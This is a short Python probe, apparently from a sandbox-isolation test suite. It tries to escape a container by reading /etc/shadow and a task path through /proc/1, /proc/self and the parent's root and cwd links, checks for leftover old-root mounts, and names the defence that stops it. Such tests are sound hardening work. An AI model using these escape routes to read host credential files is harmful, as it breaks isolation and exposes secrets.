"""Reach the host through /proc/*/root, /proc/*/cwd and open folders.

Stopped by: process 1 is hidden and has left the host's root too.
"""

import contextlib
import json
import os

scene = json.loads(input())

for pid in ("1", "self", str(os.getppid())):
    for name in ("root", "cwd"):
        for path in ("etc/shadow", "../../etc/shadow", scene["task"].lstrip("/")):
            with contextlib.suppress(OSError):
                print("reached", len(open(f"/proc/{pid}/{name}/{path}").read()))
if os.path.exists("/.old") or os.path.exists("/oldroot"):
    print("reached")
